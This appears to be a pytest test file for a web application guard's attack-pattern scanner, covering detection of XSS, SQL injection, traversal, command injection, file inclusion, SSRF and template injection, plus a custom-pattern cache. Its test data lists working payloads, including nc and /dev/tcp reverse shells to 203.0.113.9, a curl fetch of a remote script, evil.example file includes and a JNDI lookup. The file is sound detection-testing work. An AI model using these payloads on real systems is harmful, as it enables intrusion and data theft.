"""Built-in attack patterns, custom-pattern validation and the custom-pattern cache."""

from __future__ import annotations

import re
import threading

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guard_core.attack_patterns import (
    BUILTIN_CATEGORIES,
    BUILTIN_PATTERNS,
    CUSTOM,
    AttackPattern,
    CustomPatternCache,
    PatternMatch,
    compile_custom,
    decode_pattern_list,
    encode_pattern_list,
    scan,
)

LIMIT = 10_000

ATTACKS: dict[str, list[str]] = {
    "xss": [
        "<script>alert(1)</script>",
        '"><ScRiPt>prompt`1`</sCrIpT>',
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        '<a href="javascript:alert(document.cookie)">x</a>',
        "<iframe src=//evil.example>",
        "data:text/html;base64,PHNjcmlwdD4=",
        '<div style="width: expression(alert(1))">',
    ],
    "sqli": [
        "' OR 1=1 --",
        "' or '1'='1",
        '") OR ("a"="a',
        "admin'--",
        "1 or 1=1",
        "1 UNION SELECT username, password FROM users",
        "1' union all select null,null--",
        "1/**/UNION/**/SELECT 1",
        "1; DROP TABLE users",
        "'; exec xp_cmdshell 'dir'--",
        "1 AND SLEEP(5)",
        "'; WAITFOR DELAY '0:0:5'--",
        "SELECT table_name FROM information_schema.tables",
    ],
    "path_traversal": [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc",
        "/static/..%2f..%2fapp.py",
        "/api/../admin",
        "file=../secret",
        "....//....//etc",
        "%252e%252e%252fboot.ini",
    ],
    "command_injection": [
        "; cat /etc/passwd",
        "| id",
        "&& whoami",
        "`uname -a`",
        "$(curl http://x.example/s.sh)",
        "; ls -la",
        "127.0.0.1; ping -c 3 x",
        "a;sleep 5",
        "cat${IFS}/etc/passwd",
        "; nc -e /bin/sh 203.0.113.9 4444",
        "bash -i >& /dev/tcp/203.0.113.9/80 0>&1",
    ],
    "lfi": [
        "php://filter/convert.base64-encode/resource=index.php",
        "file:///etc/passwd",
        "/proc/self/environ",
        "expect://id",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "page=../../config.php%00",
        "zip://shell.jpg#payload.php",
    ],
    "rfi": [
        "?page=http://evil.example/shell.txt?",
        "include=https://evil.example/c99.php%00",
        "require_once('http://evil.example/x.php')",
        "file=\\\\evil\\share\\x.php",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data",
        "http://metadata.google.internal/computeMetadata/v1/",
        "url=http://127.0.0.1:6379/",
        "http://localhost/admin",
        "gopher://127.0.0.1:25/_HELO",
        "http://[::1]:80/",
        "http://2130706433/",
        "http://0x7f000001/",
        "url=http://10.0.0.5/internal",
        "http://user@192.168.1.1/",
    ],
    "template_injection": [
        "{{7*7}}",
        "{{ config.items() }}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${7*7}",
        "#{7*7}",
        "${jndi:ldap://evil.example/a}",
        "<%= 7 * 7 %>",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
    ],
}

BENIGN = [
    "hello world",
    "O'Brien's café",
    '{"name": "Alice", "age": 30, "tags": ["a", "b"], "bio": "I like cats & dogs; really!"}',
    '{"items":[{"id":1,"qty":2}],"note":"Leave at door; ring bell & wait"}',
    "/api/v1/users/42",
    "/products?category=shoes&sort=price_asc&page=3",
    "https://example.com/search?q=python+regex&page=2",
    "https://www.example.com/blog/2024/01/hello-world?utm_source=news&utm_medium=email",
    "name=John+Smith&email=john%40example.com&message=Hi%21+I%27d+like+a+quote.",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "session=abc; theme=dark; lang=en-US",
    "Please select an option from the list or drop us a line; union members welcome.",
    "Tom & Jerry",
    "5 * 3 = 15 and 1 + 1 = 2",
    "price: $10 (approx)",
    "rock 'n' roll and blues",
    'He said "wow" -- then left.',
    "she wrote 'yes' or 'no'",
    "fish & chips; sleep well",
    "Ctrl & Cmd keys",
    "The expression (x + 1) is positive; confirm (2 items).",
    "Hello {{ name }}, your order {{ order_id }} shipped.",
    "Item #{count} added",
    "It's a 'test' and it's fine",
    "Use the JavaScript: the Good Parts book",
    "C'est l'été, n'est-ce pas?",
    "Wait... what?",
    "Call 555-0100 or email us; id cards required",
    "The cat sat on the mat | the dog did not",
    "Multi\nline\ncurl is a tool\n",
]


def categories(text: str) -> set[str]:
    return {match.category for match in scan(text, (), LIMIT)}


@pytest.mark.parametrize(
    ("category", "attack"),
    [(category, attack) for category, attacks in ATTACKS.items() for attack in attacks],
)
def test_builtin_true_positives(category: str, attack: str) -> None:
    assert category in categories(attack)


@pytest.mark.parametrize("text", BENIGN)
def test_benign_text_is_not_flagged(text: str) -> None:
    assert scan(text, (), LIMIT) == ()


def test_every_category_is_covered() -> None:
    assert set(ATTACKS) == BUILTIN_CATEGORIES
    assert CUSTOM not in BUILTIN_CATEGORIES


def test_builtins_are_distinct_and_case_insensitive() -> None:
    assert len({p.pattern for p in BUILTIN_PATTERNS}) == len(BUILTIN_PATTERNS)
    for pattern in BUILTIN_PATTERNS:
        assert pattern.regex.flags & re.IGNORECASE
    assert "xss" in categories("<SCRIPT>ALERT(1)</SCRIPT>")
    assert "sqli" in categories("' oR 1=1 --")


_ATTACK_PIECES = [attack for attacks in ATTACKS.values() for attack in attacks] + BENIGN


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.one_of(st.sampled_from(_ATTACK_PIECES), st.text(max_size=20)), max_size=6).map(
        "".join
    ),
    st.integers(min_value=1, max_value=200),
)
def test_only_the_first_max_length_characters_count(text: str, limit: int) -> None:
    custom = (AttackPattern("evil", CUSTOM, compile_custom("evil")),)
    assert scan(text, custom, limit) == scan(text[:limit], custom, LIMIT)
    head = (text + " " * limit)[:limit]
    assert scan(head + "evil <script>", custom, limit) == scan(head, custom, LIMIT)


@pytest.mark.parametrize(
    "text",
    [
        "a" * LIMIT,
        "<a" * (LIMIT // 2),
        "<a " + "on" * (LIMIT // 2),
        "{{" + "a" * LIMIT,
        "${" + "1*" * (LIMIT // 2),
        "'" + " or a" * (LIMIT // 5),
        "../" * (LIMIT // 3),
        "%2e" * (LIMIT // 3),
        "; " * (LIMIT // 2),
        "=http://" + "a." * (LIMIT // 2),
        "http://" * (LIMIT // 7),
        "union " * (LIMIT // 6),
        "select " * (LIMIT // 7),
    ],
)
def test_adversarial_content_is_scanned(text: str) -> None:
    # Built-ins use bounded repetition; a catastrophic pattern would hang here.
    assert isinstance(scan(text, (), LIMIT), tuple)


def test_content_is_cut_to_the_limit() -> None:
    custom = (AttackPattern("needle", CUSTOM, compile_custom("needle")),)
    assert scan("x" * 20 + "<script>", custom, 20) == ()
    assert scan("x" * 16 + "needle", custom, 20) == ()
    assert scan("x" * 14 + "needle", custom, 20) == (PatternMatch("needle", CUSTOM),)
    assert "xss" in {m.category for m in scan("<script>" + "x" * 50, custom, 20)}


def test_custom_matches_follow_builtins() -> None:
    custom = (AttackPattern("alert", CUSTOM, compile_custom("alert")),)
    matches = scan("<script>alert(1)</script>", custom, LIMIT)
    assert matches[-1] == PatternMatch("alert", CUSTOM)
    assert {m.category for m in matches[:-1]} == {"xss"}


# -- validation ----------------------------------------------------------------------------


def test_compile_custom() -> None:
    assert compile_custom(r"evil\d+").search("EVIL42")
    assert not compile_custom(r"(?-i:Evil)").search("evil")
    with pytest.raises(ValueError, match=r"invalid regular expression '\[a-': .*unterminated"):
        compile_custom("[a-")
    with pytest.raises(ValueError, match="nothing to repeat"):
        compile_custom("*x")
    with pytest.raises(ValueError, match="empty"):
        compile_custom("")
    with pytest.raises(ValueError, match="empty"):
        compile_custom(" \t\n")
    with pytest.raises(ValueError, match="UTF-8"):
        compile_custom("x\udc80")
    for bad in (None, 1, b"x", re.compile("x")):
        with pytest.raises(TypeError, match="pattern must be a str"):
            compile_custom(bad)


def test_pattern_list_encoding() -> None:
    assert encode_pattern_list(["b", "a", "b", "é"]) == '["a", "b", "é"]'
    assert decode_pattern_list(None) == []
    assert decode_pattern_list("[]") == []
    assert decode_pattern_list("{}") == []  # Lua's cjson writes an empty table so
    assert decode_pattern_list('["a","b\\/c"]') == ["a", "b/c"]
    assert decode_pattern_list(b'["a"]') == ["a"]
    for malformed in ("not json", '{"a": 1}', "[1, 2]", '"a"', "null", b"\xff", 3):
        assert decode_pattern_list(malformed) is None


# -- the custom-pattern cache --------------------------------------------------------------


def test_cache_add_remove_shared() -> None:
    cache = CustomPatternCache()
    assert cache.active() == ()
    cache.add("b", compile_custom("b"), shared=True)
    cache.add("a", compile_custom("a"), shared=True)
    assert cache.patterns() == ("a", "b")
    assert all(p.category == CUSTOM for p in cache.active())
    assert cache.pending == {}
    assert cache.added_here == {"a", "b"}
    assert cache.remove("a", shared=True) is True
    assert cache.remove("a", shared=True) is False
    assert cache.patterns() == ("b",)
    assert cache.added_here == {"b"}


def test_cache_changes_redis_did_not_take_stay_pending() -> None:
    cache = CustomPatternCache()
    assert cache.load_shared(["remote"], cache.generation) == ()
    cache.add("local", compile_custom("local"), shared=False)
    assert cache.patterns() == ("local", "remote")
    assert cache.pending == {"local": True}
    # a later read from Redis does not drop the local addition
    assert cache.load_shared(["remote", "other"], cache.generation) == ()
    assert cache.patterns() == ("local", "other", "remote")
    # removing a shared pattern without Redis masks it until Redis takes the removal
    assert cache.remove("remote", shared=False) is True
    assert cache.pending == {"local": True, "remote": False}
    cache.load_shared(["remote", "other"], cache.generation)
    assert cache.patterns() == ("local", "other")
    assert cache.remove("never", shared=False) is False
    assert cache.remove("local", shared=False) is True
    assert cache.pending == {"remote": False}
    assert cache.added_here == frozenset()
    # once Redis takes a change, nothing is pending for it
    cache.add("remote", compile_custom("remote"), shared=True)
    assert cache.pending == {}
    assert cache.patterns() == ("other", "remote")


def test_cache_drops_a_read_that_started_before_a_local_change() -> None:
    cache = CustomPatternCache()
    generation = cache.generation
    cache.add("mine", compile_custom("mine"), shared=True)
    assert cache.load_shared([], generation) is None  # stale: read before the add
    assert cache.patterns() == ("mine",)
    assert cache.load_shared([], cache.generation) == ()  # fresh: removed elsewhere
    assert cache.patterns() == ()


def test_cache_skips_invalid_shared_patterns_once() -> None:
    cache = CustomPatternCache()
    assert cache.load_shared(["(bad", "good"], cache.generation) == ("(bad",)
    assert cache.patterns() == ("good",)
    assert cache.load_shared(["(bad", "good"], cache.generation) == ()


def test_cache_compiles_each_pattern_once() -> None:
    cache = CustomPatternCache()
    cache.load_shared(["one"], cache.generation)
    first = cache.active()[0].regex
    cache.load_shared(["one", "two"], cache.generation)
    assert cache.active()[0].regex is first


def test_cache_is_thread_safe() -> None:
    cache = CustomPatternCache()
    barrier = threading.Barrier(8)

    def worker(index: int) -> None:
        barrier.wait()
        for step in range(200):
            pattern = f"p{index}-{step}"
            cache.add(pattern, compile_custom(pattern), shared=step % 2 == 0)
            if step % 3 == 0:
                cache.remove(pattern, shared=step % 2 == 0)
            cache.active()

    threads = [threading.Thread(target=worker, args=(index,)) for index in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    expected = sorted(f"p{i}-{s}" for i in range(8) for s in range(200) if s % 3 != 0)
    assert list(cache.patterns()) == expected
    assert cache.added_here == set(expected)


def test_deeply_nested_stored_json_is_malformed_not_a_crash() -> None:
    from guard_core.attack_patterns import decode_pattern_list
    from guard_core.validation import parse_json

    assert decode_pattern_list("[" * 100_000) is None
    with pytest.raises(ValueError, match="stored value is not JSON"):
        parse_json("[" * 100_000, "stored value")
